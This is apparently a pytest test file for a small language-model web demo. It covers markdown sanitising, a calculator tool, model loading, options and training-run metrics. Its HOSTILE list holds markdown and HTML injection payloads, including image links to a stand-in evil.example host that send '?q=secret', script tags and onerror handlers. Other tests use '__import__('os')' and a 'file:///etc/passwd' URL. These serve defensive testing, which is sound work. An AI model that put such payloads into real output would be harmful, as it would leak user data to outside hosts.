"""The web page without Streamlit: safe text, tools, finding models, options and texts, run folders."""

import json
import re
import sys
import time
from pathlib import Path

import pytest
import torch
from hypothesis import given
from hypothesis import strategies as some
from markdown_it import MarkdownIt

from model.model_lora import LoraConfig, add_lora, save_lora
from model.model_minimind import MiniMindConfig, MiniMindForCausalLM
from model.weights import WeightsError, save_weights
from scripts.web import models, runs
from scripts.web.options import OWN_SERVER, parse_options
from scripts.web.safe_text import Part, parts, safe_markdown
from scripts.web.texts import LANGUAGES, TEXTS, figure_title, text
from scripts.web.tools import ToolCall, ToolError, calculate, days_between, run_tool, signatures, split_calls
from trainer.command_line import UserError

ROOT = Path(__file__).resolve().parents[1]


def tiny_model(seed: int = 0) -> MiniMindForCausalLM:
    torch.manual_seed(seed)
    config = MiniMindConfig(hidden_size=32, num_hidden_layers=2, num_attention_heads=4, num_key_value_heads=2)
    return MiniMindForCausalLM(config).eval()


def wait_until(true, seconds: float = 20.0) -> None:
    end = time.monotonic() + seconds
    while not true():
        assert time.monotonic() < end, "did not happen in time"
        time.sleep(0.005)


# --- Safe text --------------------------------------------------------------------------------------------------------

# Another parser than the browser's, with tables and bare addresses as there: what it finds is what a reader would see.
PARSER = MarkdownIt("commonmark", {"html": True}).enable("table")


def tokens_of(markdown: str) -> list:
    found = []
    for token in PARSER.parse(markdown):
        found += [token, *(token.children or [])]
    return found


HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[click](https://evil.example)",
    "[bank.example](https://evil.example)",
    "<img src=https://evil.example/x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "a <b onclick=alert(1)>b</b>",
    "<https://evil.example/?q=secret>",
    "\\![x](https://evil.example)",
    "\\\\![x](https://evil.example)",
    "\\`![x](https://evil.example)\\`",
    "`a | ![x](https://evil.example) | b`",
    "| a | b |\n|---|---|\n| `x | ![x](https://evil.example)` |",
    "``![x](https://evil.example)` `` ![y](https://evil.example)",
    "> - ![x](https://evil.example)",
    "~~~\n![x](https://evil.example)",
    "    ~~~\n    ```\n![x](https://evil.example)",
    "- ```\n  ![x](https://evil.example)\n  ```\n![y](https://evil.example)",
    "![x\n](https://evil.example)",
    "[^1]: ![x](https://evil.example)",
    ":red[x] :material/home: $\\href{https://evil.example}{x}$",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives_in_prose(text):
    for part in parts(text):
        if part.language is None:
            kinds = {token.type for token in tokens_of(part.text)}
            assert not kinds & {"image", "link_open", "html_inline", "html_block"}, part


@given(some.lists(some.sampled_from(["![", "](", "[", "]", "(", ")", "`", "``", "```", "~~~", "\\", "<", ">", "|", "\n",
                                     "\n\n", "    ", "- ", "> ", "x", "https://e.example", "|--|--|\n", "!", ":", "$"]),
                  max_size=24).map("".join))  # fmt: skip
def test_no_mixture_of_signs_makes_an_image_a_link_or_html(text):
    for part in parts(text):
        if part.language is None:
            kinds = {token.type for token in tokens_of(part.text)}
            assert not kinds & {"image", "link_open", "html_inline", "html_block", "fence"}, (text, part)


def test_without_the_guard_the_same_oracle_finds_images_and_links():
    kinds = {token.type for text in HOSTILE for token in tokens_of(text)}
    assert {"image", "link_open", "html_inline"} <= kinds


def shown(markdown: str) -> str:
    """What a reader sees of prose."""
    words = [token.content for token in tokens_of(markdown) if token.type in ("text", "code_inline")]
    return "".join(words)


@pytest.mark.parametrize("text", ["a[0] = b[1]", "1 < 2", "<answer>7</answer>", "it costs $5, not $6", "C:\\new", "~a~",
                                  "`x[0]` and [y]", "![x](u)", "a ` b"])  # fmt: skip
def test_prose_is_shown_as_it_was_written(text):
    assert shown(safe_markdown(text)) == text.replace("`x[0]`", "x[0]")


def test_markdown_that_only_looks_good_stays():
    kinds = {token.type for token in tokens_of(safe_markdown("# A\n\n- **b**\n- *c*\n\n|a|b|\n|-|-|\n|1|2|\n\n`d`"))}
    assert {"heading_open", "bullet_list_open", "strong_open", "em_open", "table_open", "code_inline"} <= kinds


def test_line_breaks_stay():
    assert [t.type for t in tokens_of(safe_markdown("春眠不觉晓\n处处闻啼鸟"))].count("hardbreak") == 1


def test_code_is_cut_out_and_left_alone():
    text = "See:\n```python\na[0] = `x`\n```\nand\n~~~\n<b>\n```"
    assert parts(text) == [Part("See:"), Part("a[0] = `x`", "python"), Part("and"), Part("<b>\n```", "")]


def test_control_characters_become_visible():
    assert parts("a\x00b\u202ec\ud800") == [Part("a\ufffdb\ufffdc?")]


def test_no_page_ever_allows_html():
    for path in [*(ROOT / "scripts" / "web").glob("*.py"), ROOT / "scripts" / "web_demo.py"]:
        code = path.read_text(encoding="utf-8")
        assert not re.search(r"unsafe_allow_\w+\s*=|st\.html|st\.iframe|components\.v1|\beval\(|\bexec\(", code), path


# --- Tools ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("expression, value", [
    ("123 + 456", "579"), ("2 + 3 * 4", "14"), ("(2 + 3) * 4", "20"), ("7 - 2 - 1", "4"), ("2 ^ 3 ^ 2", "512"),
    ("-2 ** 2", "-4"), ("7 / 2", "3.5"), ("0.1 + 0.2", "0.3"), ("7 // 2", "3"), ("7 % 3", "1"), ("1e3 * 2", "2000"),
    ("sqrt(16) + abs(-2)", "6"), ("12×3÷4＝", "9"), ("2^-2", "0.25"), ("10^30", "1" + "0" * 30),
    ("1/3", "0.333333333333"),
])  # fmt: skip
def test_calculator(expression, value):
    assert calculate(expression) == value


@pytest.mark.parametrize("expression", [
    "", "1 +", "1 / 0", "2 ** 99999", "9**9**9**9", "(" * 300 + "1" + ")" * 300, "(" * 90 + "1" + ")" * 90, "1 2",
    "__import__('os')", "x", "open(1)", "sqrt(-1)", "1; 2", "(-8)^0.5", "exp(9999)", "1" * 201, "sqrt 4", "(1", "'a'*9",
    "0^-1", "10^999*10^999", "exp(700)*exp(700)",
])  # fmt: skip
def test_calculator_refuses_in_no_time(expression):
    start = time.perf_counter()
    with pytest.raises(ToolError):
        calculate(expression)
    assert time.perf_counter() - start < 0.5


@given(some.text(alphabet="0123456789+-*/%^(). e", max_size=40))
def test_calculator_gives_a_number_or_a_tool_error(expression):
    try:
        float(calculate(expression))
    except ToolError:
        pass


def test_days_between():
    assert days_between("2024-02-28", "2024-03-01") == "2"
    with pytest.raises(ToolError, match="expected dates"):
        days_between("yesterday", "2024-03-01")


@pytest.mark.parametrize("name, arguments, message", [
    ("rm", "{}", "no tool"), ("calculate", "{", "no valid JSON"), ("calculate", "{}", "takes the arguments"),
    ("calculate", '{"expression": 5}', "should be a string"), ("calculate", '["1"]', "takes the arguments"),
    ("current_time", '{"utc_offset_hours": 99}', "-14 to 14"), ("current_time", '{"utc_offset_hours": NaN}', "-14"),
    ("calculate", '{"expression": "1", "path": "/"}', "takes the arguments"), ("calculate", "[" * 100_000, "no valid"),
    ("current_time", '{"utc_offset_hours": true}', "should be a number"),
])  # fmt: skip
def test_impossible_calls_fail_with_a_reason(name, arguments, message):
    with pytest.raises(ToolError, match=message):
        run_tool(name, arguments)
    call = ToolCall(name, arguments)
    call.run()
    assert call.failed and call.result.startswith("error: ")


def test_calls_are_read_out_of_an_answer():
    said, calls = split_calls(
        'Let me see.\n<tool_call>\n{"name": "calculate", "arguments": {"expression": "1 + 2"}}\n</tool_call>\n'
        '<tool_call>{"name": "calculate", "argu'
    )
    assert said == "Let me see."
    assert [(call.name, call.arguments) for call in calls] == [
        ("calculate", '{"expression": "1 + 2"}'),
        ("calculate", '{"name": "calculate", "argu'),
    ]


def test_every_tool_has_a_signature_of_its_parameters():
    for signature in signatures():
        function = signature["function"]
        assert set(function["parameters"]["required"]) <= set(function["parameters"]["properties"])
        assert function["description"]


# --- Finding models ---------------------------------------------------------------------------------------------------


def test_models_and_adapters_are_found_below_out(tmp_path):
    model = tiny_model()
    save_weights(model, tmp_path / "full_sft_32.pth", {"stage": "full_sft"})
    save_weights(model, tmp_path / "pretrain_32.pth", {"stage": "pretrain"})
    save_weights(model, tmp_path / "reward_32.pth", {"stage": "reward"})
    model.save_pretrained(tmp_path / "folder")
    (tmp_path / "cut.pth").write_bytes(b"")
    add_lora(model, LoraConfig(rank=2))
    save_lora(model, tmp_path / "lora" / "mine_32.pth", LoraConfig(rank=2))
    found = {choice.name: choice for choice in models.find_models(tmp_path)}
    assert set(found) == {"full_sft_32.pth", "pretrain_32.pth", "folder", "cut.pth"}
    assert found["pretrain_32.pth"].stage == "pretrain" and found["full_sft_32.pth"].width == 32
    (adapter,) = models.find_adapters(tmp_path, found["full_sft_32.pth"])
    assert adapter.name == "mine_32"
    loaded = models.load(found["full_sft_32.pth"], adapter, "cpu", 64)
    assert loaded.parameters > sum(p.numel() for p in tiny_model().parameters()) and loaded.max_seq_len == 64
    assert models.load(found["folder"], None, "cpu", 64).parameters > 0
    with pytest.raises(WeightsError, match="cut off"):
        models.load(found["cut.pth"], None, "cpu", 64)
    other = models.Choice("x", tmp_path, 1, width=64, layers=2)
    assert models.find_adapters(tmp_path, other) == []
    assert models.find_models(tmp_path / "missing") == []


# --- Options and texts ------------------------------------------------------------------------------------------------


def test_options(tmp_path, monkeypatch):
    monkeypatch.setenv("MINIMIND_API_KEY", "k")
    options = parse_options(["--out_dir", str(tmp_path), "--api_url", "http://h/v1", "--model", str(tmp_path)])
    assert (options.out_dir, options.servers, options.servers_named) == (tmp_path, ("http://h/v1",), True)
    assert options.models == (tmp_path,) and options.key == "k"
    assert parse_options([]).servers == (OWN_SERVER,) and not parse_options([]).servers_named


@pytest.mark.parametrize("argv", [["--nonsense"], ["--api_url", "file:///etc/passwd"], ["--model", "/nowhere/at/all"],
                                  ["--max_seq_len", "2"]])  # fmt: skip
def test_wrong_options_say_what_to_type(argv):
    with pytest.raises(UserError, match="streamlit run scripts/web_demo.py -- --out_dir out"):
        parse_options(argv)


def test_every_text_stands_in_both_languages_with_the_same_blanks():
    assert list(LANGUAGES) == ["en", "zh"]
    for key, (english, chinese) in TEXTS.items():
        assert english and chinese, key
        blanks = [re.findall(r"{(\w+)[^}]*}", said) for said in (english, chinese)]
        assert sorted(blanks[0]) == sorted(blanks[1]), key
    used = set()
    for path in (ROOT / "scripts" / "web").glob("*.py"):
        used |= set(re.findall(r'say\("(\w+)"', path.read_text(encoding="utf-8")))
    assert used and used <= set(TEXTS)
    assert text("zh", "note_forgotten", count=2).startswith("2") and figure_title("en", "odd_name") == "odd name"


# --- Run folders ------------------------------------------------------------------------------------------------------


def write_run(folder: Path, records: list[dict], facts: dict | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    lines = "".join(json.dumps(record) + "\n" for record in records)
    (folder / "metrics.jsonl").write_text(lines, encoding="utf-8")
    if facts is not None:
        (folder / "step_00000002.json").write_text(json.dumps(facts), encoding="utf-8")
    return folder


def test_a_growing_file_is_read_to_its_last_whole_line(tmp_path):
    path = write_run(tmp_path / "r", [{"step": 1, "loss": 2.0}]) / "metrics.jsonl"
    tail = runs.Tail(path)
    assert [r["step"] for r in tail.read()] == [1]
    before = tail.read()
    with open(path, "ab") as file:
        file.write('{"step": 2, "loss": 1.5, "说": "半'.encode()[:-1])
    assert [r["step"] for r in tail.read()] == [1]
    with open(path, "ab") as file:
        file.write('半"}\nnull\n[1]\n{"loss": 1}\ngarbage\n{"step": 3}\n'.encode()[2:])
    assert [r["step"] for r in tail.read()] == [1, 2, 3] and len(before) == 1
    replaced = tmp_path / "new"
    replaced.write_text('{"step": 7}\n', encoding="utf-8")
    replaced.replace(path)
    assert [r["step"] for r in tail.read()] == [7]
    path.unlink()
    assert tail.read() == []


def test_runs_are_found_newest_first_and_kept(tmp_path):
    import os

    for i, name in enumerate(("a_32", "b_32", "c_32")):
        folder = write_run(tmp_path / "runs" / name, [{"step": 1}])
        os.utime(folder / "metrics.jsonl", (1000 + i, 1000 + i))
    write_run(tmp_path / "other" / "runs" / "d_32", [])
    all_runs = runs.Runs(tmp_path)
    found = all_runs.find()
    assert list(found)[1:] == ["c_32", "b_32", "a_32"] and set(found) == {"a_32", "b_32", "c_32", "other/d_32"}
    assert all_runs.find()["a_32"] is found["a_32"]
    assert runs.Runs(tmp_path / "missing").find() == {}


RECORDS = [
    {"step": 10, "loss": 4.0, "lr": 0.1, "tokens": 100, "time": 1000.0, "tokens_per_second": 10.0, "eta_seconds": 90.0,
     "mfu": None, "expert_load": [[0.1, 0.9], [0.5, 0.5]]},
    {"step": 10, "val_loss": 3.5, "val_bpb": 1.5},
    {"step": 20, "loss": 2.0, "lr": 0.2, "tokens": 200, "time": 4600.0, "tokens_per_second": 10.0, "eta_seconds": 80.0},
    {"step": 20, "val_loss": 2.5, "val_accuracy": 0.5, "odd": "text", "yes": True},
]  # fmt: skip


def test_curves():
    assert runs.figures([RECORDS]) == [
        "loss", "bpb", "accuracy", "experts_least", "experts_most", "lr", "tokens_per_second",
    ]  # fmt: skip
    assert runs.curve(RECORDS, "loss", "step") == [(10, 4.0), (20, 2.0)]
    assert runs.curve(RECORDS, "val_loss", "tokens") == [(100, 3.5), (200, 2.5)]
    assert runs.curve(RECORDS, "val_loss", "hours") == [(0, 3.5), (1, 2.5)]
    assert runs.curve(RECORDS, "experts_least", "step") == [(10, 0.1)]
    parts_of = [(row["part"], row["x"], row["value"]) for row in runs.rows("r", RECORDS, "loss", "step", 0.0)]
    assert parts_of == [("training", 10, 4.0), ("training", 20, 2.0), ("held_out", 10, 3.5), ("held_out", 20, 2.5)]


def test_smoothing_by_hand():
    assert runs.smoothed([4.0, 2.0, 2.0], 0.0) == [4.0, 2.0, 2.0]
    # s1 = 0.5·4 = 2, /0.5 = 4; s2 = 1 + 1 = 2, /0.75 = 8/3; s3 = 1 + 1 = 2, /0.875 = 16/7
    assert runs.smoothed([4.0, 2.0, 2.0], 0.5) == pytest.approx([4.0, 8 / 3, 16 / 7])
    smooth = [row for row in runs.rows("r", RECORDS, "loss", "step", 0.5) if row["part"] == "training"]
    assert [row["raw"] for row in smooth] == [4.0, 2.0] and smooth[1]["value"] == pytest.approx(8 / 3)
    held_out = [row["value"] for row in runs.rows("r", RECORDS, "loss", "step", 0.5) if row["part"] == "held_out"]
    assert held_out == [3.5, 2.5]


def test_long_curves_are_thinned_to_their_ends():
    points = [(float(i), 1.0) for i in range(100_000)]
    thin = runs.thinned(points, 500)
    assert (
        len(thin) == 500 and thin[0] == points[0] and thin[-1] == points[-1] and runs.thinned(points[:9]) == points[:9]
    )


def test_how_a_run_stands(tmp_path):
    import os

    facts = {
        "progress": {"step": 20, "finished": True},
        "signature": {"total_steps": 20},
        "config": {"hidden_size": 32},
    }
    write_run(tmp_path / "runs" / "a", RECORDS, facts)
    running = write_run(tmp_path / "runs" / "b", RECORDS)
    write_run(tmp_path / "runs" / "empty", [])
    os.utime(running / "metrics.jsonl", (50_000, 50_000))
    found = runs.Runs(tmp_path).find()
    done = runs.standing(found["a"], 1e9)
    assert (done.state, done.step, done.total, done.loss, done.val_loss, done.bpb) == (
        "finished",
        20,
        20,
        2.0,
        2.5,
        1.5,
    )
    assert done.elapsed == 3600 and done.eta is None and done.size.startswith("32")
    busy = runs.standing(found["b"], 50_060)
    # 80 s left × 10 tokens/s × 10 updates / 100 tokens = 80 updates
    assert (busy.state, busy.total, busy.eta) == ("running", 100, 80.0)
    assert runs.standing(found["b"], 1e9).state == "stopped"
    assert runs.standing(found["empty"], 1e9).step == 0


if sys.platform == "win32":  # a file that is open cannot be replaced there
    del test_a_growing_file_is_read_to_its_last_whole_line
